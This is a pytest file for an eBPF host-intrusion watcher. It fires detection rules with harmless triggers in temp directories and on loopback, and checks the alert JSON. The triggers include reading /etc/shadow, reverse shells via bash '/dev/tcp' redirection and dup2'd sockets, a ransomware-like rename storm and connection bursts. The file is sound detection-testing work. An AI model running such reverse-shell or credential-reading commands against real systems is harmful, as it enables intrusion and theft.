"""The watcher for real (eBPF): behaviour rules on harmless triggers in temp dirs, the learning
period of an unseen program, incidents, alert JSON and `watch --output`."""
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from datetime import datetime

import pytest
from sec_common import KPILOT, kpilot, need_root_ebpf, pump

PY = sys.executable


def fired(rule, pid):
    return lambda lines: any(a["fired"] == rule and a["pid"] == pid for a in lines)


@pytest.fixture(scope="module")
def watcher(model_file):
    need_root_ebpf()
    from kernelpilot.security.live import Watcher
    from kernelpilot.security.model import SecurityModel
    w = Watcher(SecurityModel.load(model_file), learn_s=0)
    yield w
    w.close()


def test_shadow_read_by_a_fresh_program(watcher, tmp_path):
    if not os.path.exists("/etc/shadow"):
        pytest.skip("no /etc/shadow")
    cat = tmp_path / "kpfreshcat"
    shutil.copy("/bin/cat", cat)
    p = subprocess.run([str(cat), "/etc/shadow"], stdout=subprocess.DEVNULL)
    lines = pump(watcher, lambda ls: any(a["fired"] == "shadow_read" and a["exe"] == str(cat) for a in ls))
    hit = [a for a in lines if a["fired"] == "shadow_read" and a["exe"] == str(cat)]
    assert p.returncode == 0 and len(hit) == 1, lines[:3]
    a = hit[0]
    # the alert line: what a person needs, for a process that is gone by now
    t = datetime.fromisoformat(a["time"])
    assert t.tzinfo is not None and abs(t.timestamp() - time.time()) < 60
    assert a["event"] == "alert" and a["host"] == socket.gethostname() and a["uid"] == os.getuid()
    assert a["cmdline"] == f"{cat} /etc/shadow" and a["detail"]["path"] == "/etc/shadow"
    assert a["ppid"] == os.getpid() and a["parents"][0]["pid"] == os.getpid() and a["parents"][-1]["pid"] == 1
    assert a["tid"] == a["pid"] and isinstance(a["cgroup"], str) and a["cgroup_id"] > 0
    assert a["model"] == "rule:shadow_read" and a["incident"] >= 1 and json.loads(json.dumps(a)) == a


def test_shell_spawned_by_a_loopback_server(watcher):
    code = ("import socket, subprocess\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(1)\n"
            "subprocess.run(['sh', '-c', 'true'])\n")
    p = subprocess.Popen([PY, "-c", code])
    p.wait(30)
    lines = pump(watcher, lambda ls: any(a["fired"] == "shell_from_server" and a["detail"]["server_pid"] == p.pid
                                         for a in ls))
    hit = [a for a in lines if a["fired"] == "shell_from_server" and a["detail"]["server_pid"] == p.pid]
    assert hit and hit[0]["ppid"] == p.pid and hit[0]["detail"]["shell"] in ("sh", "dash", "bash")
    # a shell started by a process that never listened: no alert
    q = subprocess.run(["sh", "-c", "true"])
    lines = pump(watcher, lambda ls: False, timeout=0.5)
    assert q.returncode == 0 and not [a for a in lines if a["fired"] == "shell_from_server"]


def test_setuid_bit_and_setid_calls(watcher, tmp_path):
    f = tmp_path / "f"
    f.write_text("x")
    p = subprocess.run(["chmod", "u+s", str(f)])
    # a throwaway process gives itself another gid; setting the id it has is no alert
    q = subprocess.run([PY, "-c", "import os; os.setgid(os.getgid()); os.setgid(65534)"])
    lines = pump(watcher, lambda ls: any(a["fired"] == "setid_file" and a["detail"]["path"] == str(f) for a in ls)
                 and any(a["fired"] == "setid_process" and "os.setgid" in a["cmdline"] for a in ls))
    chmod = [a for a in lines if a["fired"] == "setid_file" and a["detail"]["path"] == str(f)]
    setid = [a for a in lines if a["fired"] == "setid_process" and "os.setgid" in a["cmdline"]]
    assert p.returncode == 0 and q.returncode == 0 and (f.stat().st_mode & 0o4000)
    assert chmod and chmod[0]["detail"]["mode"].startswith("0o4") and chmod[0]["exe"].endswith("chmod")
    assert len(setid) == 1 and setid[0]["detail"] == {"syscall": "setgid", "arg": 65534}
    # a plain chmod is no alert
    subprocess.run(["chmod", "644", str(f)])
    lines = pump(watcher, lambda ls: False, timeout=0.5)
    assert not [a for a in lines if a["fired"] == "setid_file" and a["detail"]["path"] == str(f)]


def test_rename_storm(watcher, tmp_path):
    code = (f"import os\nfor i in range(40):\n    p = '{tmp_path}/doc%d.txt' % i\n"
            "    open(p, 'wb').write(os.urandom(256)); os.rename(p, p + '.enc')\n")
    few = subprocess.Popen([PY, "-c", code.replace("range(40)", "range(5)").replace("doc", "few")])
    few.wait(30)
    p = subprocess.Popen([PY, "-c", code])
    p.wait(30)
    lines = pump(watcher, fired("rename_storm", p.pid))
    hit = [a for a in lines if a["fired"] == "rename_storm" and a["pid"] == p.pid]
    assert hit and hit[0]["detail"]["renames"] >= 20 and hit[0]["detail"]["writes"] >= 20
    assert len(hit) == 1  # the 40 renames are one incident
    assert not [a for a in lines if a["fired"] == "rename_storm" and a["pid"] == few.pid]


def test_what_the_host_did_while_learning_does_not_fire(model_file, tmp_path):
    need_root_ebpf()
    if not os.path.exists("/etc/shadow"):
        pytest.skip("no /etc/shadow")
    from kernelpilot.security.live import Watcher
    from kernelpilot.security.model import SecurityModel
    old, new = tmp_path / "kpoldcat", tmp_path / "kpnewcat"
    shutil.copy("/bin/cat", old)
    shutil.copy("/bin/cat", new)
    w = Watcher(SecurityModel.load(model_file), learn_s=2.0)
    try:
        subprocess.run([str(old), "/etc/shadow"], stdout=subprocess.DEVNULL)  # during host learning
        lines = pump(w, lambda ls: not w.profiles.host_learning(time.monotonic_ns()), timeout=30)
        assert "shadow" in w.profiles.progs[str(old)].flags
        for c in (old, new):
            subprocess.run([str(c), "/etc/shadow"], stdout=subprocess.DEVNULL)
        lines += pump(w, lambda ls: any(a["exe"] == str(new) for a in ls))
    finally:
        w.close()
    shadow = [a["exe"] for a in lines if a["fired"] == "shadow_read"]
    assert str(new) in shadow and str(old) not in shadow


def test_unseen_program_is_learned_then_judged(model_file, tmp_path):
    """Every window confirmed (threshold 0): a fresh program raises nothing while it is learned,
    and, judged afterwards, alerts on what it never did while learning, as one incident."""
    need_root_ebpf()
    from kernelpilot.security.live import Watcher
    from kernelpilot.security.model import SecurityModel
    ls = tmp_path / "kpfreshls"
    shutil.copy("/bin/ls", ls)
    w = Watcher(SecurityModel.load(model_file), threshold=-1, confirm_threshold=0.0, learn_s=0, new_s=3.0)
    try:
        for _ in range(3):
            subprocess.run([str(ls), "/"], stdout=subprocess.DEVNULL)
        lines = pump(w, lambda _: str(ls) in w.profiles.progs and w.profiles.progs[str(ls)].learned > 0)
        prof = w.profiles.progs[str(ls)]
        lines += pump(w, lambda _: not w.profiles.learning(prof, False, time.monotonic_ns()), timeout=30)
        during = [a for a in lines if a["exe"] == str(ls)]
        p = subprocess.run([str(ls), "-laR", "--color=always", "/usr/share/zoneinfo", "/etc"], stdout=subprocess.DEVNULL)
        after = pump(w, lambda ls_: any(a["exe"] == str(ls) for a in ls_))
        after += pump(w, lambda _: False, timeout=0.5)
        ended = w.finish()
    finally:
        w.close()
    assert prof.learned > 0 and during == [], during[:2]
    mine = [a for a in after if a["exe"] == str(ls)]
    assert p.returncode == 0 and mine and all(a["fired"] == "model" for a in mine)
    a = mine[0]
    assert len(mine) == 1 and a["model"].endswith("+live") and a["live_score"] > a["live_threshold"]
    assert a["window"] and a["calls_seen"] > 0 and a["score"] > a["threshold"]
    # its other windows were folded into the incident: the closing line counts them
    end = [e for e in ended if e["incident"] == a["incident"]]
    assert end and end[0]["event"] == "incident_end" and end[0]["windows"] >= 2 and prof.judged >= 2


def test_watch_output_file_json_lines(model_file, tmp_path):
    need_root_ebpf()
    out = tmp_path / "alerts.jsonl"
    out.write_text("")
    w = subprocess.Popen([KPILOT, "security", "watch", "--model", str(model_file), "--learn", "0",
                          "--duration", "120", "--output", str(out)], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True)
    f = tmp_path / "suid"
    f.write_text("x")
    try:
        assert "watching" in w.stderr.readline()
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and str(f) not in out.read_text():
            subprocess.run(["chmod", "u+s", str(f)])
            time.sleep(0.2)
    finally:
        w.send_signal(signal.SIGINT)
        stdout, err = w.communicate(30)
    assert w.returncode == 0, err
    lines = [json.loads(x) for x in out.read_text().splitlines()]
    assert lines and all(a["event"] in ("alert", "incident_end") and "time" in a for a in lines)
    assert any(a.get("fired") == "setid_file" and a["detail"]["path"] == str(f) for a in lines)
    assert "ALERT" in err and "setid_file" in err  # the person at the terminal sees them too


def test_watch_bad_options(model_file, tmp_path):
    r = kpilot("security", "watch", "--model", model_file, "--output", tmp_path / "no" / "dir" / "a.jsonl")
    assert r.returncode != 0 and "cannot write alerts to" in r.stderr and "Traceback" not in r.stderr
    r = kpilot("security", "watch", "--model", model_file, "--learn", "-1")
    assert r.returncode != 0 and "--learn" in r.stderr and "Traceback" not in r.stderr
    bad = tmp_path / "profiles.json"
    bad.write_text("[1, 2")
    r = kpilot("security", "watch", "--model", model_file, "--profiles", bad, "--duration", "1")
    assert r.returncode != 0 and "not a kernelpilot profiles file" in r.stderr and "Traceback" not in r.stderr
    assert bad.read_text() == "[1, 2"  # not overwritten


def test_hidden_file_in_tmp_is_run(watcher, tmp_path):
    if not str(tmp_path).startswith(("/tmp/", "/var/tmp/", "/dev/shm/")):
        pytest.skip(f"the test's temp dir {tmp_path} is not under a world-writable directory")
    hidden, plain = tmp_path / ".cache" / "kpx", tmp_path / "plain" / "kpx"
    for f in (hidden, plain):
        f.parent.mkdir()
        shutil.copy("/bin/true", f)
    link = tmp_path / ".venv" / "bin" / "kpx"  # a venv's bin/python under /tmp: a link to a system binary
    link.parent.mkdir(parents=True)
    link.symlink_to(shutil.which("true"))
    script = tmp_path / ".kp_job.py"
    script.write_text("print('hi')\n")
    runs = [subprocess.run([str(f)]) for f in (hidden, plain, link)]
    job = subprocess.Popen([PY, str(script)], stdout=subprocess.DEVNULL)
    job.wait(30)
    lines = pump(watcher, lambda ls: {a["detail"]["as"] for a in ls if a["fired"] == "hidden_exec"} >= {"binary", "script"})
    lines += pump(watcher, lambda ls: False, timeout=0.5)
    hits = {a["detail"]["path"]: a for a in lines if a["fired"] == "hidden_exec"}
    assert all(r.returncode == 0 for r in runs) and job.returncode == 0
    assert hits[str(hidden)]["detail"]["as"] == "binary" and hits[str(hidden)]["exe"] == str(hidden)
    assert hits[str(script)]["detail"]["as"] == "script" and hits[str(script)]["pid"] == job.pid
    assert str(plain) not in hits and str(link) not in hits
    assert not [a for a in hits.values() if os.path.realpath(a["detail"]["path"]) == shutil.which("true")]



def test_exec_argv_is_the_programs_own(watcher):
    """An exec event carries argv's length: the ring slot is not zeroed, so the bytes after argv
    are whatever an earlier lap of the ring left there, and the command line must end at it."""
    import numpy as np
    from kernelpilot.security.rules import EV_EXEC, EVENT_DTYPE, argv_of
    p = subprocess.Popen(["/bin/true", "kpshort"])
    p.wait(30)
    evs, deadline = [], time.monotonic() + 20
    while time.monotonic() < deadline and not any((e["kind"] == EV_EXEC) & (e["tgid"] == p.pid) for e in evs):
        evs += list(watcher.kernel.events.poll())
        time.sleep(0.05)
    ev = next(e for e in evs if e["kind"] == EV_EXEC and e["tgid"] == p.pid)
    assert int(ev["arg"]) == len(b"/bin/true\0kpshort\0") and argv_of(ev) == "/bin/true kpshort"
    stale = np.zeros(1, dtype=EVENT_DTYPE)[0]  # a slot an earlier, longer argv wrote to
    stale["args"][:] = np.frombuffer(b"/bin/true\0kpshort\0" + b"-march=x86-64 -O2".ljust(238, b"\0"), np.uint8)
    stale["kind"], stale["arg"] = EV_EXEC, len(b"/bin/true\0kpshort\0")
    assert argv_of(stale) == "/bin/true kpshort"


def test_watch_keeps_its_latest_alerts_and_counts_all(watcher, monkeypatch):
    from kernelpilot.security.live import ALERTS_KEPT
    n0, pids = watcher.n_alerts, iter(range(5_000_000, 6_000_000))  # above pid_max: no real process
    hits = lambda evs: [{"pid": (p := next(pids)), "tid": p, "ts": time.monotonic_ns(), "cgroup_id": 0,
                         "comm": "noisy", "rule": "rename_storm", "detail": {}, "uid": 0} for _ in range(200)]
    monkeypatch.setattr(watcher.rules, "on_events", hits)
    out = [a for _ in range(8) for a in watcher.step()]  # (the host's own may come up too)
    assert sum(a["comm"] == "noisy" for a in out) == 1600 and watcher.n_alerts - n0 == len(out)  # all counted ...
    assert len(watcher.alerts) == ALERTS_KEPT < 1600  # ... the latest kept
    assert max(a["pid"] for a in watcher.alerts) == 5_001_599
    assert all(e["event"] == "incident_end" for e in watcher.take_ended()) and watcher.ended == []


LISTENER = """import socket, sys, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', 0)); s.listen(64)
print(s.getsockname()[1], flush=True)
def serve(c):
    c.sendall(sys.argv[1].encode()); c.settimeout(2)
    try:
        while c.recv(4096): pass
    except OSError: pass
    c.close()
while True:
    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
"""


@pytest.fixture
def listener():
    """A loopback TCP server that greets each connection with 'exit' (a reverse shell then ends); its port."""
    p = subprocess.Popen([PY, "-c", LISTENER, "exit\n"], stdout=subprocess.PIPE, text=True)
    try:
        yield int(p.stdout.readline())
    finally:
        p.kill()
        p.wait()


def test_connect_burst(watcher, listener):
    """One thread opening 16+ TCP connections to one address and port within 10 s (a password
    guesser) fires connect_burst once; 10 connections, or 20 made by 20 processes, do not."""
    loop = f"for p in $(seq {{n}}); do exec 3<>/dev/tcp/127.0.0.1/{listener} || exit 1; echo x$p >&3; exec 3>&-; done"
    burst = subprocess.Popen(["bash", "-c", loop.format(n=30)])
    few = subprocess.Popen(["bash", "-c", loop.format(n=10)])
    apart = [subprocess.Popen(["bash", "-c", loop.format(n=1)]) for _ in range(20)]
    for p in [burst, few, *apart]:
        p.wait(30)
    lines = pump(watcher, fired("connect_burst", burst.pid))
    lines += pump(watcher, lambda ls: False, timeout=0.5)
    hit = [a for a in lines if a["fired"] == "connect_burst" and a["pid"] == burst.pid]
    assert burst.returncode == 0 and len(hit) == 1, lines[:3]
    assert hit[0]["detail"]["port"] == listener and hit[0]["detail"]["connects"] == 16
    assert 0 <= hit[0]["detail"]["seconds"] <= 10 and hit[0]["exe"].endswith("bash")
    others = {few.pid, *(p.pid for p in apart)}
    assert not [a for a in lines if a["fired"] == "connect_burst" and a["pid"] in others]


def test_socket_shell(watcher, listener):
    """A shell started with its stdin on an inet socket fires socket_shell: bash's redirection to
    /dev/tcp, and a shell exec'd by a process that dup2'ed a socket onto fd 0-2 (nc -e); a shell
    that talks to a socket on fd 3 (its builtins redirected to it for a moment) does not."""
    rev = subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{listener} 0>&1"],
                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    code = (f"import os, socket; s = socket.create_connection(('127.0.0.1', {listener}))\n"
            "for fd in (0, 1, 2): os.dup2(s.fileno(), fd)\nos.execvp('sh', ['sh', '-c', 'read x; true'])\n")
    nce = subprocess.Popen([PY, "-c", code], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    fd3 = subprocess.Popen(["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{listener}; echo hi >&3; read -r r <&3; exec 3>&-; sh -c true"])
    for p in (rev, nce, fd3):
        p.wait(30)
    mine = {rev.pid, nce.pid, fd3.pid}  # bash -c may fork its one command: the shell is then its child

    def who(a):
        return a["pid"] if a["pid"] in mine else a["ppid"]
    lines = pump(watcher, lambda ls: {who(a) for a in ls if a["fired"] == "socket_shell"} >= {rev.pid, nce.pid})
    lines += pump(watcher, lambda ls: False, timeout=0.5)
    hits = [a for a in lines if a["fired"] == "socket_shell" and who(a) in mine]
    by = {who(a): a for a in hits}
    assert rev.pid in by and nce.pid in by, lines[:3]
    assert by[rev.pid]["detail"]["shell"] == "bash" and by[rev.pid]["detail"]["fds"] == [0, 1, 2]
    assert by[nce.pid]["detail"]["shell"] in ("sh", "dash", "bash") and by[nce.pid]["pid"] == nce.pid
    assert fd3.pid not in by and fd3.returncode == 0
    # the shells the reverse shell starts (its .bashrc's) are its doing: one alert each
    assert len(hits) == 2, [(a["pid"], a["ppid"], a["cmdline"]) for a in hits]


def test_socket_shell_from_an_inherited_socket(watcher, listener):
    """A shell that inherits its stdin socket, with no dup2 anywhere: its parent's connect took the
    free fd 0, and the child it spawns execs sh on it (the kernel reads the fds at exec). A child
    spawned with its stdin on a pipe, by the same parent, does not fire."""
    code = (f"import os, socket, subprocess\nos.close(0); s = socket.create_connection(('127.0.0.1', {listener}))\n"
            "assert s.fileno() == 0\nos.set_inheritable(0, True)  # as a C accept or socket without SOCK_CLOEXEC\nsubprocess.run(['sh', '-c', 'read x; true'])\n"
            "subprocess.run(['sh', '-c', 'read x; true'], input=b'x\\n')\n")
    p = subprocess.Popen([PY, "-c", code], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    p.wait(30)
    lines = pump(watcher, lambda ls: any(a["fired"] == "socket_shell" and a["ppid"] == p.pid for a in ls))
    lines += pump(watcher, lambda ls: False, timeout=0.5)
    hits = [a for a in lines if a["fired"] == "socket_shell" and a["ppid"] == p.pid]
    assert p.returncode == 0 and len(hits) == 1, [(a["fired"], a["pid"], a["cmdline"]) for a in lines][:5]
    assert hits[0]["detail"]["fds"] == [0] and hits[0]["detail"]["shell"] in ("sh", "dash", "bash")


@pytest.mark.parametrize("name,rule", [("brute_force", "connect_burst"), ("reverse_shell", "socket_shell")])
def test_scenario_caught_by_its_rule_with_the_model_blind(model_file, tmp_path, name, rule):
    """The suite's brute_force and reverse_shell, which only the model caught before, each have a
    rule of their own: with no window ever confirmed (confirm threshold over 1.0) they still alert."""
    need_root_ebpf()
    from kernelpilot.security.live import Watcher
    from kernelpilot.security.model import SecurityModel
    from kernelpilot.security.scenarios import SCENARIOS
    from kernelpilot.security.scenarios.run import script_for
    w = Watcher(SecurityModel.load(model_file), learn_s=0, confirm_threshold=1.01)
    try:
        p = subprocess.Popen(["bash", "-c", script_for(SCENARIOS[name], str(tmp_path), 3)])
        p.wait(60)

        def mine(a):
            return a["pid"] == p.pid or any(x["pid"] == p.pid for x in a["parents"])
        lines = pump(w, lambda ls: any(a["fired"] == rule and mine(a) for a in ls))
    finally:
        w.close()
    assert [a for a in lines if a["fired"] == rule and mine(a)], [(a["fired"], a["comm"]) for a in lines][:10]
    assert not [a for a in lines if a["fired"] == "model" and mine(a)]
